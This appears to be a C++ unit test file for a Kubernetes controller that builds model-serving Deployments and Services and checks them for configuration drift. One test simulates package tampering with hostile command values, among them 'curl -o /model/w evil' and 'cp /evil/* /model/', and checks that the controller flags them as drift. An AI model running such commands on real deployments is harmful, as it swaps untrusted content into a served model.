// Tests of the model's serving objects (controllers/modelrelease/prod/serving_objects.h).
#include "controllers/modelrelease/prod/serving_objects.h"

#include <ctime>
#include <functional>
#include <optional>
#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace lockstep::controllers {
namespace {

using namespace api::v1alpha1;  // NOLINT(google-build-using-namespace): reasons, CanarySpec
using nlohmann::json;

const std::string kServingObjectsHash = "sha256:" + std::string(64, 'a');
const std::string kServingObjectsImage =
    "registry.example/runtimes/torch@sha256:" + std::string(64, '1');
const std::string kServingObjectsPackage =
    "registry.example/models/gpt2@sha256:" + std::string(64, 'c');
// The operator's --package-fetch-command in these tests (builtRich's).
const std::vector<std::string> kServingObjectsFetch = {"fetch"};

ServingRelease servingRelease() {
  return {"gpt2-v2",
          kServingObjectsPackage,
          kServingObjectsHash,
          "torch",
          kServingObjectsImage,
          {{"spec",
            {{"containers", json::array({{{"name", "server"}, {"args", {"--port", "8080"}}}})}}}}};
}

TEST(CanaryObjects, DeploymentRunsThePackageByDigestOnTheValidatedRuntime) {
  ServingObjectsInput in{"gpt2", "ml",       8080, CapacityMode::kSurge, PackageMount::kImageVolume,
                         {},     "model-uid"};
  auto built = buildServingDeployment(in, kTrackCanary, servingRelease(), 3);
  ASSERT_TRUE(built.isOk()) << built.status().toString();
  const json& d = *built;
  EXPECT_EQ(d["metadata"]["name"], "gpt2-canary");
  EXPECT_EQ(d["metadata"]["labels"]["lockstep.dev/track"], "canary");
  EXPECT_EQ(d["metadata"]["ownerReferences"][0]["kind"], "Model");
  EXPECT_EQ(d["metadata"]["ownerReferences"][0]["apiVersion"], "lockstep.dev/v1alpha1");
  EXPECT_EQ(d["metadata"]["ownerReferences"][0]["name"], "gpt2");
  EXPECT_EQ(d["metadata"]["ownerReferences"][0]["uid"], "model-uid");
  EXPECT_EQ(d["metadata"]["ownerReferences"][0]["controller"], true);
  EXPECT_EQ(d["spec"]["replicas"], 3);
  EXPECT_EQ(d["spec"]["strategy"]["rollingUpdate"]["maxSurge"], 1);
  EXPECT_EQ(d["spec"]["strategy"]["rollingUpdate"]["maxUnavailable"], 0);
  EXPECT_EQ(d["spec"]["selector"]["matchLabels"]["lockstep.dev/track"], "canary");
  const json& t = d["spec"]["template"];
  EXPECT_EQ(t["metadata"]["labels"]["lockstep.dev/model"], "gpt2");
  EXPECT_EQ(t["metadata"]["labels"]["lockstep.dev/release"], "gpt2-v2");
  EXPECT_EQ(t["metadata"]["labels"]["lockstep.dev/runtime-env"], "torch");
  EXPECT_EQ(t["metadata"]["annotations"]["lockstep.dev/closure-hash"], kServingObjectsHash);
  const json& c = t["spec"]["containers"][0];
  EXPECT_EQ(c["image"], kServingObjectsImage);
  EXPECT_EQ(c["volumeMounts"][0]["readOnly"], true);
  EXPECT_EQ(t["spec"]["volumes"][0]["image"]["reference"], kServingObjectsPackage);
  // Every selector label is on the pods.
  for (const auto& [k, v] : d["spec"]["selector"]["matchLabels"].items())
    EXPECT_EQ(t["metadata"]["labels"][k], v) << k;
  json svc = buildModelService(in);
  EXPECT_EQ(svc["metadata"]["name"], "gpt2");
  for (const auto& [k, v] : svc["spec"]["selector"].items())
    EXPECT_EQ(t["metadata"]["labels"][k], v) << k;
  EXPECT_FALSE(svc["spec"]["selector"].contains("lockstep.dev/track")) << "both tracks serve";
}

// The Service as the API server returns it: what was applied, plus defaulted fields.
json storedService(json applied) {
  applied["metadata"]["uid"] = "svc-uid";
  applied["metadata"]["resourceVersion"] = "42";
  applied["spec"]["clusterIP"] = "10.0.0.17";
  applied["spec"]["type"] = "ClusterIP";
  applied["spec"]["sessionAffinity"] = "None";
  applied["status"] = {{"loadBalancer", json::object()}};
  return applied;
}

TEST(CanaryObjects, AServiceThatHoldsEverythingWantedIsNotWrittenAgain) {
  ServingObjectsInput in{"gpt2", "ml",       8080, CapacityMode::kSurge, PackageMount::kImageVolume,
                         {},     "model-uid"};
  const json want = buildModelService(in);
  EXPECT_TRUE(serviceHolds(want, storedService(want)));

  json edited = storedService(want);
  edited["spec"]["selector"]["app.kubernetes.io/component"] = "other";
  EXPECT_FALSE(serviceHolds(want, edited)) << "an edited selector is put back";
  edited = storedService(want);
  edited["spec"]["ports"][0]["targetPort"] = 9000;
  EXPECT_FALSE(serviceHolds(want, edited));
  edited = storedService(want);
  edited["spec"]["ports"].push_back({{"name", "extra"}, {"port", 9090}});
  EXPECT_FALSE(serviceHolds(want, edited)) << "a port added by hand goes";
  edited = storedService(want);
  edited["metadata"]["labels"].erase("app.kubernetes.io/managed-by");
  EXPECT_FALSE(serviceHolds(want, edited));

  // Written before the Model existed (no owner reference): the Model's reference is added.
  ServingObjectsInput before = in;
  before.modelUid.clear();
  const json early = storedService(buildModelService(before));
  EXPECT_TRUE(serviceHolds(buildModelService(before), early));
  EXPECT_FALSE(serviceHolds(want, early));
  // A re-created Model (another uid) is not this Service's owner.
  ServingObjectsInput other = in;
  other.modelUid = "another-model";
  EXPECT_FALSE(serviceHolds(buildModelService(other), storedService(want)));
  // Owned by the Model, but another owner was added: ours is compared, the list differs.
  json twoOwners = storedService(want);
  twoOwners["metadata"]["ownerReferences"].push_back({{"kind", "ConfigMap"}, {"uid", "x"}});
  EXPECT_FALSE(serviceHolds(want, twoOwners));
}

TEST(CanaryObjects, DrainStrategyInitContainerModeAndForeignImage) {
  ServingObjectsInput in{
      "gpt2", "ml", 8080, CapacityMode::kDrain, PackageMount::kInitContainer, {"sh", "-c", "fetch"},
      ""};
  auto built = buildServingDeployment(in, kTrackStable, servingRelease(), 4);
  ASSERT_TRUE(built.isOk()) << built.status().toString();
  const json& d = *built;
  EXPECT_EQ(d["spec"]["strategy"]["rollingUpdate"]["maxSurge"], 0);
  EXPECT_EQ(d["spec"]["strategy"]["rollingUpdate"]["maxUnavailable"], 1);
  EXPECT_TRUE(d["metadata"]["ownerReferences"].empty());
  EXPECT_EQ(d["spec"]["template"]["spec"]["initContainers"][0]["name"], "lockstep-fetch-package");
  EXPECT_EQ(d["spec"]["template"]["spec"]["initContainers"][0]["image"], kServingObjectsImage);
  auto r = servingRelease();
  r.podTemplate["spec"]["containers"][0]["image"] = "docker.io/library/python:3.12";
  auto bad = buildServingDeployment(in, kTrackStable, r, 4);
  ASSERT_FALSE(bad.isOk());
  EXPECT_EQ(bad.status().code(), Code::kInvalidArgument);
  EXPECT_NE(bad.status().message().find("names image"), std::string::npos)
      << bad.status().message();
}

}  // namespace
}  // namespace lockstep::controllers

namespace lockstep::controllers {
namespace {

// The serving label (docs/rollouts.md "Which pods are prod"): on every pod
// template, never in a Deployment's (immutable) selector; in the Service's
// selector once selectServingLabel says no pod would lose its traffic by it.
TEST(ServingLabel, OnTheTemplatesAndInTheServiceSelectorWhenSelectable) {
  ServingObjectsInput in{"gpt2", "ml",       8080, CapacityMode::kSurge, PackageMount::kImageVolume,
                         {},     "model-uid"};
  auto built = buildServingDeployment(in, kTrackStable, servingRelease(), 2);
  ASSERT_TRUE(built.isOk());
  EXPECT_EQ((*built)["spec"]["template"]["metadata"]["labels"]["lockstep.dev/serving"], "true");
  EXPECT_FALSE((*built)["spec"]["selector"]["matchLabels"].contains("lockstep.dev/serving"));
  EXPECT_EQ(buildModelService(in)["spec"]["selector"]["lockstep.dev/serving"], "true");
  in.selectServingLabel = false;
  const json legacy = buildModelService(in);
  EXPECT_FALSE(legacy["spec"]["selector"].contains("lockstep.dev/serving"));
  // Either way the selector is held exactly: the label is added, and dropped again.
  in.selectServingLabel = true;
  const json labelled = buildModelService(in);
  EXPECT_FALSE(serviceHolds(labelled, storedService(legacy)));
  EXPECT_FALSE(serviceHolds(legacy, storedService(labelled)));
  EXPECT_NE(serviceDrift(legacy, storedService(labelled)).find("spec.selector"), std::string::npos);
}

// An upgrade re-templates nothing for the serving label alone (no pod restarts).
TEST(ServingLabel, ATemplateWithoutItIsNoDrift) {
  ServingObjectsInput in{"gpt2", "ml",       8080, CapacityMode::kSurge, PackageMount::kImageVolume,
                         {},     "model-uid"};
  auto built = buildServingDeployment(in, kTrackStable, servingRelease(), 2);
  ASSERT_TRUE(built.isOk());
  json earlier = *built;
  earlier["spec"]["template"]["metadata"]["labels"].erase("lockstep.dev/serving");
  EXPECT_EQ(deploymentDrift(*built, earlier, kServingObjectsFetch), "");
  earlier["spec"]["template"]["metadata"]["labels"]["lockstep.dev/serving"] = "no";
  EXPECT_NE(deploymentDrift(*built, earlier, kServingObjectsFetch), "");
}

}  // namespace
}  // namespace lockstep::controllers

namespace lockstep::controllers {
namespace {

// A serving template as a team writes it: args, a port, a probe, its own env
// var (one empty), resources and a ConfigMap volume of its own.
ServingRelease richRelease() {
  ServingRelease r = servingRelease();
  r.podTemplate = {
      {"spec",
       {{"containers",
         json::array(
             {{{"name", "server"},
               {"args", {"--port", "8080"}},
               {"ports", json::array({{{"containerPort", 8080}}})},
               {"env", json::array({{{"name", "MODE"}, {"value", "fast"}},
                                    {{"name", "EMPTY"}, {"value", ""}}})},
               {"readinessProbe",
                {{"httpGet", {{"path", "/healthz"}, {"port", 8080}}}, {"initialDelaySeconds", 0}}},
               {"resources", {{"requests", {{"cpu", "0.5"}}}}},
               {"volumeMounts",
                json::array({{{"name", "config"}, {"mountPath", "/etc/gpt2"}}})}}})},
        {"volumes",
         json::array({{{"name", "config"}, {"configMap", {{"name", "gpt2-config"}}}}})}}}};
  return r;
}

json builtRich(PackageMount mount = PackageMount::kImageVolume,
               std::optional<VerifyContainers> verify = std::nullopt) {
  ServingObjectsInput in{"gpt2", "ml", 8080, CapacityMode::kSurge, mount, {"fetch"}, "model-uid"};
  ServingRelease r = richRelease();
  r.verify = std::move(verify);
  auto built = buildServingDeployment(in, kTrackStable, r, 2);
  EXPECT_TRUE(built.isOk()) << built.status().toString();
  return built.isOk() ? *built : json();
}

VerifyContainers someVerify() {
  VerifyContainers v;
  v.cliImage = "registry.example/lockstep@sha256:" + std::string(64, '9');
  v.runtimeImage = kServingObjectsImage;
  v.closureConfigMap = "lockstep-closure-torch-1";
  return v;
}

// The live Deployment as the API server returns `built`: defaults filled in,
// zero values omitted, quantities canonical.
json asServed(json d) {
  json& spec = d["spec"]["template"]["spec"];
  for (json& c : spec["containers"]) {
    c["imagePullPolicy"] = "IfNotPresent";
    c["terminationMessagePath"] = "/dev/termination-log";
    c["terminationMessagePolicy"] = "File";
    if (c.contains("ports")) c["ports"][0]["protocol"] = "TCP";
    if (c.contains("readinessProbe")) {
      json& probe = c["readinessProbe"];
      probe.erase("initialDelaySeconds");
      probe["httpGet"]["scheme"] = "HTTP";
      probe.update({{"periodSeconds", 10}, {"timeoutSeconds", 1}, {"failureThreshold", 3}});
    }
    for (json& e : c["env"]) {
      if (e["value"] == "") e.erase("value");
    }
    if (c.contains("resources")) c["resources"]["requests"]["cpu"] = "500m";
  }
  spec["volumes"][0]["configMap"]["defaultMode"] = 420;  // the template's own, first
  spec.update({{"dnsPolicy", "ClusterFirst"},
               {"restartPolicy", "Always"},
               {"schedulerName", "default-scheduler"},
               {"securityContext", json::object()}});
  d["metadata"]["uid"] = "stable-uid";
  d["status"] = {{"readyReplicas", 2}};
  return d;
}

json& container(json& d) { return d["spec"]["template"]["spec"]["containers"][0]; }
json& env(json& d, const std::string& name) {
  for (json& e : container(d)["env"]) {
    if (e["name"] == name) return e;
  }
  ADD_FAILURE() << "no env " << name;
  static json none;
  return none;
}

// The hash is Lockstep's template (docs/rollouts.md "Prod heals"): on the
// Deployment's metadata, never the pod template's; the same whatever the
// operator's own settings add; another for another package.
TEST(TemplateHash, OnTheDeploymentOverWhatLockstepSetsNotTheOperatorsSettings) {
  const json plain = builtRich();
  const std::string hash = plain["metadata"]["annotations"].value(kTemplateHashAnnotation, "");
  EXPECT_EQ(hash.rfind("sha256:", 0), 0u) << plain["metadata"].dump();
  EXPECT_EQ(hash, templateHash(plain["spec"]["template"]));
  EXPECT_FALSE(
      plain["spec"]["template"]["metadata"]["annotations"].contains(kTemplateHashAnnotation))
      << "in the pod template it would restart pods";
  EXPECT_EQ(builtRich(PackageMount::kInitContainer,
                      someVerify())["metadata"]["annotations"][kTemplateHashAnnotation],
            hash)
      << "the package fetch and the verification init containers are the operator's settings";
  ServingObjectsInput in{"gpt2", "ml",       8080, CapacityMode::kSurge, PackageMount::kImageVolume,
                         {},     "model-uid"};
  ServingRelease other = richRelease();
  other.package = "registry.example/models/gpt2@sha256:" + std::string(64, 'b');
  EXPECT_NE((*buildServingDeployment(in, kTrackStable, other,
                                     2))["metadata"]["annotations"][kTemplateHashAnnotation],
            hash);

  // Missing (built before the annotation existed) or another: a metadata-only patch.
  json served = asServed(plain);
  EXPECT_FALSE(templateHashPatch(plain, served).has_value());
  served["metadata"].erase("annotations");
  EXPECT_EQ(templateHashPatch(plain, served),
            json({{"metadata", {{"annotations", {{kTemplateHashAnnotation, hash}}}}}}));
  served["metadata"]["annotations"][kTemplateHashAnnotation] = "sha256:old";
  EXPECT_TRUE(templateHashPatch(plain, served).has_value());
}

// What the API server defaults or omits, what someone adds next to
// Lockstep's, and the operator's own init containers and mount mode are no
// drift: re-applying would change nothing (server-side apply keeps others'
// fields), and an operator upgrade restarts no pod by itself.
TEST(TemplateDrift, DefaultsAdditionsAndTheOperatorsSettingsAreNoDrift) {
  const json want = builtRich();
  json served = asServed(want);
  EXPECT_EQ(deploymentDrift(want, served, kServingObjectsFetch), "");

  env(served, "MODE");  // present
  container(served)["env"].push_back({{"name", "EXTRA"}, {"value", "1"}});
  container(served)["resources"]["limits"] = {{"memory", "1Gi"}};
  EXPECT_EQ(deploymentDrift(want, served, kServingObjectsFetch), "")
      << "fields Lockstep does not set stay";

  // Built by an operator with --cli-image verification and the fetch mode.
  json other = asServed(builtRich(PackageMount::kInitContainer, someVerify()));
  EXPECT_EQ(deploymentDrift(want, other, kServingObjectsFetch), "");
  EXPECT_EQ(deploymentDrift(builtRich(PackageMount::kInitContainer, someVerify()), served,
                            kServingObjectsFetch),
            "");
}

TEST(TemplateDrift, AnEditOfWhatLockstepSetsIsDriftNamingTheField) {
  struct Case {
    const char* name;
    std::function<void(json&)> edit;
    const char* says;
  };
  const std::string other = "registry.example/models/gpt2@sha256:" + std::string(64, 'b');
  const Case cases[] = {
      {"a LOCKSTEP_* env var", [](json& d) { env(d, "LOCKSTEP_RELEASE")["value"] = "gpt2-v1"; },
       R"(spec.template.spec.containers["server"].env["LOCKSTEP_RELEASE"].value is "gpt2-v1", not "gpt2-v2")"},
      {"the template's env var", [](json& d) { env(d, "MODE")["value"] = "slow"; },
       R"(env["MODE"].value is "slow", not "fast")"},
      {"the package image volume's reference",
       [&](json& d) {
         for (json& v : d["spec"]["template"]["spec"]["volumes"]) {
           if (v["name"] == "lockstep-package") v["image"]["reference"] = other;
         }
       },
       R"(spec.template.spec.volumes["lockstep-package"].image.reference is "registry.example/models/gpt2@sha256:bbbb)"},
      {"args",
       [](json& d) {
         container(d)["args"] = {"--port", "9090"};
       },
       R"(spec.template.spec.containers["server"].args is ["--port","9090"], not ["--port","8080"])"},
      {"a probe", [](json& d) { container(d)["readinessProbe"]["httpGet"]["path"] = "/"; },
       R"(.readinessProbe.httpGet.path is "/", not "/healthz")"},
      {"a probe removed", [](json& d) { container(d).erase("readinessProbe"); },
       R"(containers["server"].readinessProbe is unset)"},
      {"the package mount made writable",
       [](json& d) {
         for (json& m : container(d)["volumeMounts"]) {
           if (m["mountPath"] == "/model") m["readOnly"] = false;
         }
       },
       R"(volumeMounts["/model"].readOnly is false, not true)"},
      {"the package mount removed",
       [](json& d) {
         json kept = json::array();
         for (json& m : container(d)["volumeMounts"]) {
           if (m["mountPath"] != "/model") kept.push_back(m);
         }
         container(d)["volumeMounts"] = kept;
       },
       R"(volumeMounts["/model"] is unset)"},
      {"the template's volume",
       [](json& d) { d["spec"]["template"]["spec"]["volumes"][0]["configMap"]["name"] = "other"; },
       R"(spec.template.spec.volumes["config"].configMap.name is "other", not "gpt2-config")"},
  };
  const json want = builtRich();
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    json served = asServed(want);
    c.edit(served);
    const std::string drift = deploymentDrift(want, served, kServingObjectsFetch);
    EXPECT_NE(drift.find(c.says), std::string::npos) << drift;
  }

  // The fetch init container's package (InitContainer mode) is the package too.
  const json fetched = builtRich(PackageMount::kInitContainer);
  json served = asServed(fetched);
  for (json& e : served["spec"]["template"]["spec"]["initContainers"][0]["env"]) {
    if (e["name"] == "LOCKSTEP_PACKAGE") e["value"] = other;
  }
  EXPECT_NE(
      deploymentDrift(fetched, served, kServingObjectsFetch)
          .find(R"(initContainers["lockstep-fetch-package"].env["LOCKSTEP_PACKAGE"].value is)"),
      std::string::npos)
      << deploymentDrift(fetched, served, kServingObjectsFetch);
}

// The fetch form is the package's only as the operator builds it
// (docs/rollouts.md "Prod heals"): an emptyDir swapped in for the image
// volume and filled by a command of someone's own, or a volume that keeps
// its content, serves another model under the package's name. The pod
// webhook checks images, never commands: only drift finds it.
TEST(TemplateDrift, AFetchOfSomeonesOwnIsDriftAMountModeSwitchIsNot) {
  const json want = builtRich();  // ImageVolume mode
  const json fetchForm = asServed(builtRich(PackageMount::kInitContainer));
  auto fetchOf = [](json& d) -> json& {
    for (json& c : d["spec"]["template"]["spec"]["initContainers"])
      if (c["name"] == "lockstep-fetch-package") return c;
    ADD_FAILURE() << "no fetch container";
    static json none;
    return none;
  };
  auto packageVolume = [](json& d) -> json& {
    for (json& v : d["spec"]["template"]["spec"]["volumes"])
      if (v["name"] == "lockstep-package") return v;
    ADD_FAILURE() << "no package volume";
    static json none;
    return none;
  };
  // The operator's own fetch: no drift in either direction of a mode switch.
  EXPECT_EQ(deploymentDrift(want, fetchForm, kServingObjectsFetch), "");
  {
    // An init container of someone's own that only reads the package is no drift.
    json reader = fetchForm;
    reader["spec"]["template"]["spec"]["initContainers"].push_back(
        {{"name", "reader"},
         {"image", kServingObjectsImage},
         {"volumeMounts",
          json::array(
              {{{"name", "lockstep-package"}, {"mountPath", "/model"}, {"readOnly", true}}})}});
    EXPECT_EQ(deploymentDrift(want, reader, kServingObjectsFetch), "");
  }
  EXPECT_EQ(
      deploymentDrift(builtRich(PackageMount::kInitContainer), fetchForm, kServingObjectsFetch),
      "");

  struct Case {
    const char* name;
    std::function<void(json&)> edit;
    const char* says;
  };
  const Case cases[] = {
      {"a command of someone's own",
       [&](json& d) {
         fetchOf(d)["command"] = {"sh", "-c", "curl -o /model/w evil"};
       },
       R"(initContainers["lockstep-fetch-package"].command is ["sh","-c","curl -o /model/w evil"], not ["fetch"])"},
      {"args added to the operator's command",
       [&](json& d) {
         fetchOf(d)["args"] = {"--from", "elsewhere"};
       },
       R"(initContainers["lockstep-fetch-package"].args is ["--from","elsewhere"], not unset)"},
      {"another image",
       [&](json& d) { fetchOf(d)["image"] = "registry.example/someone/fetch:latest"; },
       R"(initContainers["lockstep-fetch-package"].image is "registry.example/someone/fetch:latest", not ")"},
      {"a volume that keeps its content",
       [&](json& d) {
         json& v = packageVolume(d);
         v.erase("emptyDir");
         v["persistentVolumeClaim"] = {{"claimName", "prefilled"}};
       },
       R"(volumes["lockstep-package"] is a persistentVolumeClaim volume, not the package's image volume or an emptyDir)"},
      {"an init container of someone's own after the fetch, writing the package",
       [](json& d) {
         d["spec"]["template"]["spec"]["initContainers"].push_back(
             {{"name", "swap"},
              {"image", kServingObjectsImage},
              {"command", {"sh", "-c", "cp /evil/* /model/"}},
              {"volumeMounts",
               json::array({{{"name", "lockstep-package"}, {"mountPath", "/model"}}})}});
       },
       R"(spec.template.spec.initContainers["swap"].volumeMounts["/model"] mounts the package volume writable: only lockstep-fetch-package writes it)"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    json served = fetchForm;
    c.edit(served);
    const std::string drift = deploymentDrift(want, served, kServingObjectsFetch);
    EXPECT_NE(drift.find(c.says), std::string::npos) << drift;
    // Built in the fetch form too.
    EXPECT_NE(
        deploymentDrift(builtRich(PackageMount::kInitContainer), served, kServingObjectsFetch), "");
  }
}

}  // namespace
}  // namespace lockstep::controllers
